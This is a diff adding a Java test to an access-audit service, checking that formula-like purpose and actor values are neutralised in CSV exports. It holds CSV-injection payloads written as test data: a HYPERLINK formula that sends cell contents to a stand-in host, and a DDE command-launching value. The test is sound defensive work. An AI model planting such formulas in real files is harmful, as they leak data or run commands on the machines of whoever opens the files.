@@ -124,6 +124,37 @@ class AccessTrailTest {
     }
 
     @Test
+    void aPurposeOrActorThatLooksLikeAFormulaIsWrittenAsTextInTheCsv() throws Exception {
+        // As session-service records a provider's read sent with this X-Access-Purpose header.
+        String formula = "=HYPERLINK(\"http://x\"&A1,\"Open\")";
+        String actor = "@" + provider;
+        OffsetDateTime at = OffsetDateTime.parse("2026-09-16T14:00:00Z");
+        access(actor, "provider", "READ", "session-log", List.of(ana), formula, at);
+        access(actor, "-provider", "READ", "session-log", List.of(ana), "+1 review", at.plusMinutes(1));
+        access(actor, "provider", "READ", "session-log", List.of(ana), "\tcmd|' /C calc'!A0", at.plusMinutes(2));
+        await().atMost(Duration.ofSeconds(30)).untilAsserted(() -> admin().queryParam("actor", actor).get(PATH)
+                .then().statusCode(200).header("X-Total-Count", "3"));
+
+        // JSON keeps the values as recorded; only the CSV cells are neutralised.
+        admin().queryParam("actor", actor).get(PATH).then().body("[2].purpose", is(formula));
+        String csv = admin().accept("text/csv").queryParam("actor", actor).get(PATH).then().statusCode(200)
+                .extract().asString();
+        List<String> lines = csv.lines().toList();
+        assertEquals(4, lines.size(), csv);
+        assertTrue(lines.get(3).contains("\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"Open\"\")\""), lines.get(3));
+        assertTrue(lines.get(3).contains(",'@" + provider + ","), lines.get(3));
+        assertTrue(lines.get(2).contains(",'-provider,") && lines.get(2).contains(",'+1 review,"), lines.get(2));
+        assertTrue(lines.get(1).contains("'\tcmd"), lines.get(1));
+        for (String line : lines) {
+            for (String cell : line.split(",")) {
+                String bare = cell.startsWith("\"") ? cell.substring(1) : cell;
+                assertFalse(bare.startsWith("=") || bare.startsWith("+") || bare.startsWith("@")
+                        || bare.startsWith("\t"), "formula cell " + cell + " in " + line);
+            }
+        }
+    }
+
+    @Test
     void onlyDistrictAdministratorsWithAValidTokenMayRead() {
         given().get(PATH).then().statusCode(401);
         given().auth().oauth2(TokenIssuer.shared().token("admin", Role.DISTRICT_ADMIN_NAME)
